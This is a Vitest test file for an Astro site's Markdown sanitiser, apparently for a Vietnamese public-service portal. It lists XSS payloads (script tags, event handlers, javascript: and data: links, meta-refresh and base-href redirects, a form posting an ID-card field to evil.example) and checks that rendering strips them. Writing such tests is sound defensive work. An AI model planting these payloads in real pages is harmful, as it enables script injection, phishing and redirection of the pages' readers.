import { createMarkdownProcessor, type MarkdownProcessor } from '@astrojs/markdown-remark';
import { JSDOM } from 'jsdom';
import { beforeAll, describe, expect, test } from 'vitest';
import { markdownConfig } from '../../../src/lib/markdown/markdown-config';

let processor: MarkdownProcessor;
beforeAll(async () => {
	// Astro’s own Markdown pipeline with the site’s options, so the plugin order is the real one.
	processor = await createMarkdownProcessor(markdownConfig);
});

/** Renders a Markdown body as the site does and parses the HTML as a browser would. */
async function render(markdown: string): Promise<{ html: string; body: HTMLElement }> {
	const { code } = await processor.render(markdown);
	return { html: code, body: new JSDOM(`<!doctype html><body>${code}`).window.document.body };
}

/** Everything in rendered HTML that could run code, load something, or style the page. */
function liveMarkup(body: HTMLElement): string[] {
	const found: string[] = [];
	const elements =
		'script, style, iframe, frame, object, embed, form, input, button, img, svg, math, link, meta, base, template, details';
	for (const element of body.querySelectorAll(elements)) found.push(`<${element.localName}>`);
	for (const element of body.querySelectorAll('*')) {
		for (const { name, value } of element.attributes) {
			if (/^on/i.test(name) || name === 'style' || name === 'action' || name === 'src') {
				found.push(`${element.localName}[${name}]`);
			}
			if (name === 'href' && !/^(https?:|mailto:|\/|#)/i.test(value)) {
				found.push(`${element.localName}[href=${value}]`);
			}
		}
	}
	return found;
}

describe('markdownConfig', () => {
	const attacks = {
		script: '<script>document.title = "pwned"</script>',
		'img onerror': '<img src="x" onerror="alert(1)">',
		'svg onload': '<svg onload="alert(1)"><circle r="1"/></svg>',
		iframe: '<iframe src="https://example.com/"></iframe>',
		'iframe javascript': '<iframe src="javascript:alert(1)"></iframe>',
		'form action':
			'<form action="https://evil.example/"><input name="cccd"><button>Gửi</button></form>',
		style: '<style>body { display: none }</style>',
		'style attribute': '<p style="position:fixed;inset:0">Lừa đảo</p>',
		'javascript: link in HTML': '<a href="javascript:alert(1)">bấm</a>',
		'javascript: link in Markdown': '[bấm](javascript:alert(1))',
		'javascript: link with a tab and mixed case': '<a href="JaVa&#x09;ScRiPt:alert(1)">bấm</a>',
		'data: link': '[tải](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
		'vbscript: link': '<a href="vbscript:msgbox(1)">bấm</a>',
		'details ontoggle': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
		'object and embed': '<object data="x.swf"></object><embed src="x.swf">',
		'math xlink': '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
		'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
		'base href': '<base href="https://evil.example/">',
		'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
		'autofocus onfocus': '<input autofocus onfocus="alert(1)">',
		'event handler on an allowed element': '<p onclick="alert(1)" onmouseover="alert(2)">Chữ</p>',
		'unclosed tag hiding the page': '<div><script>alert(1)',
	};

	test.each(Object.entries(attacks))('removes live markup: %s', async (_, attack) => {
		const { body } = await render(`Đoạn văn trước.\n\n${attack}\n\nĐoạn văn sau.`);
		expect(liveMarkup(body)).toEqual([]);
		expect(body.textContent).toContain('Đoạn văn trước.');
	});

	test('removes the content of scripts and styles, not just the tags', async () => {
		const { html } = await render(`${attacks.script}\n\n${attacks.style}`);
		expect(html).not.toContain('pwned');
		expect(html).not.toContain('display: none');
	});

	test('keeps the text of harmless HTML it does not allow', async () => {
		const { body } = await render('<div class="x">Nộp hồ sơ <b>trực tiếp</b></div>');
		expect(body.textContent).toContain('Nộp hồ sơ trực tiếp');
		expect(body.querySelector('b')?.textContent).toBe('trực tiếp');
		expect(body.querySelector('[class]')).toBeNull();
	});

	test('keeps headings, paragraphs, emphasis and code', async () => {
		const { body } = await render(
			'## Lưu ý\n\nMang theo **bản chính** và *bản sao*; mã `2.002039`.\n\n```\nmột dòng\n```'
		);
		expect(body.querySelector('h2')?.textContent).toBe('Lưu ý');
		expect(body.querySelector('strong')?.textContent).toBe('bản chính');
		expect(body.querySelector('em')?.textContent).toBe('bản sao');
		expect(body.querySelector('p code')?.textContent).toBe('2.002039');
		expect(body.querySelector('pre code')?.textContent).toBe('một dòng\n');
	});

	test('keeps ordered and unordered lists', async () => {
		const { body } = await render('1. Nộp hồ sơ\n2. Nhận kết quả\n\n- Tờ khai\n- Bản sao CCCD');
		expect([...body.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual([
			'Nộp hồ sơ',
			'Nhận kết quả',
		]);
		expect(body.querySelectorAll('ul > li')).toHaveLength(2);
	});

	test('keeps tables with their column alignment, without style attributes', async () => {
		const { body } = await render(
			'| Đối tượng | Lệ phí |\n| --- | ---: |\n| Cá nhân | 50.000 đ |\n| Tổ chức | 100.000 đ |'
		);
		expect(body.querySelectorAll('table thead th')).toHaveLength(2);
		expect(body.querySelectorAll('table tbody tr')).toHaveLength(2);
		expect(body.querySelector('tbody td:last-child')?.getAttribute('align')).toBe('right');
		expect(body.querySelector('[style]')).toBeNull();
	});

	test('keeps web, e-mail and in-site links', async () => {
		const { body } = await render(
			'[Cổng](https://dichvucong.gov.vn/p/home.html), [thư](mailto:stp@example.gov.vn), ' +
				'[dữ liệu](/du-lieu/) và <a href="http://example.gov.vn/" title="Sở">Sở</a>'
		);
		expect([...body.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
			'https://dichvucong.gov.vn/p/home.html',
			'mailto:stp@example.gov.vn',
			'/du-lieu/',
			'http://example.gov.vn/',
		]);
		expect(body.querySelector('a[title]')?.getAttribute('title')).toBe('Sở');
	});

	test('drops ids from raw HTML so a body cannot shadow the page’s own', async () => {
		const { body } = await render('<p id="noi-dung">x</p><p name="location">y</p>');
		expect(body.querySelector('[id="noi-dung"], [name]')).toBeNull();
	});

	test('still gives headings an id for in-page links', async () => {
		const { body } = await render('## Căn cứ pháp lý');
		expect(body.querySelector('h2')?.id).not.toBe('');
	});
});
